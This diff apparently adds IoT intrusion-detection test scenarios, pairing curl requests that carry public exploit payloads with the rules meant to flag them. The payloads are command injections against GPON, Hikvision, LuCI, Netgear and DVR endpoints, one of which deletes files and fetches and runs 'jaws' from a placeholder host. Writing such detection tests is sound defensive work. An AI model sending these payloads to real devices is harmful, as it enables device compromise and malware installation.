@@ -302,3 +302,31 @@ IT += [
     _http("http-device-to-device", "a camera's curl to another camera's web interface", DEVICE, IOT_PEER,
           [f"{CURL} http://{DEVICE}/"], {"iot-east-west-admin-port": 1}),
 ]
+
+ATTACKER = "203.0.113.7"   # an internet host
+EXPLOITS = {   # scenario -> (curl arguments after the URL's host, the rule); payloads as public exploit scripts send them
+    "http-exploit-boaform": ("-X POST -d 'username=admin&psd=Feefifofum' 'http://{d}/boaform/admin/formLogin'",
+                             "iot-exploit-boaform-login"),
+    "http-exploit-dvr-shell": ("'http://{d}/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.7/jaws;sh+/tmp/jaws'",
+                               "iot-exploit-dvr-shell-endpoint"),
+    "http-exploit-gpon": ("-X POST -d 'XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`id`;id&ipv=0' "
+                          "'http://{d}/GponForm/diag_Form?images/'", "iot-exploit-gpon-diag-form"),
+    "http-exploit-hikvision": ("-X PUT -H 'Content-Type: application/x-www-form-urlencoded; charset=UTF-8' "
+                               "--data-binary '<?xml version=\"1.0\" encoding=\"UTF-8\"?><language>$(id>webLib/x)</language>' "
+                               "'http://{d}/SDK/webLanguage'", "iot-exploit-hikvision-weblanguage"),
+    "http-exploit-luci": ("'http://{d}/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>/tmp/x)'",
+                          "iot-exploit-luci-locale-injection"),
+    "http-exploit-netgear": ("'http://{d}/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=id&curpath=/&currentsetting.htm=1'",
+                             "iot-exploit-netgear-setup-cgi"),
+}
+LOOKALIKES = [   # the same endpoints without the exploit's tell-tale part
+    "-X POST -d 'username=admin' 'http://{d}/boaform/admin/formLogout'", "'http://{d}/shellinabox/'",
+    "'http://{d}/GponForm/LoginForm'", "'http://{d}/SDK/webLanguage'",
+    "'http://{d}/cgi-bin/luci/;stok=/locale?form=language'", "'http://{d}/setup.cgi?next_file=netgear.cfg'",
+]
+
+IT += [_http(name, f"curl from an internet host sending the {rule} request to a camera", DEVICE, ATTACKER,
+             [f"{CURL} -g --path-as-is " + args.format(d=DEVICE)], {rule: 1}) for name, (args, rule) in EXPLOITS.items()]
+IT += [_http("http-exploit-lookalikes", "curl from an internet host requesting the exploited endpoints without the "
+             "exploit (logout, a shell-in-a-box path, login form, GET of webLanguage, another locale form, setup.cgi)",
+             DEVICE, ATTACKER, [f"{CURL} -g --path-as-is " + a.format(d=DEVICE) for a in LOOKALIKES], {})]
